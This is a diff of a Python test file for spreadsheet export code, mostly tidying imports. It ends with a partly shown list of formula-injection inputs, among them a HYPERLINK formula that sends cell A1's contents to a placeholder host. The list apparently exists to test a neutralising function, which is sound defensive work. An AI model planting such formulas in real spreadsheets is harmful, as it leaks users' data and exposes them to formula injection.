@@ -10,16 +10,13 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from blindspot.access import Scope
-from blindspot.casework import audit
-from blindspot.ingest import exchange
-from blindspot.casework import exports
-from blindspot.casework import lists
-from blindspot.access import scope_for
-from blindspot.ingest.readers import Problem, echo
-from blindspot.spreadsheet import FORMULA_TRIGGERS, neutralise, neutralise_frame
+from blindspot.access import Scope, scope_for
+from blindspot.casework import audit, exports, lists
 from blindspot.db.store import Store
+from blindspot.ingest import exchange
+from blindspot.ingest.readers import Problem, echo
 from blindspot.ingest.report import problems_frame, report_csv
+from blindspot.spreadsheet import FORMULA_TRIGGERS, neutralise, neutralise_frame
 
 T = 20243
 HOSTILE = ["=HYPERLINK(\"http://x/?\"&A1,\"클릭\")", "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
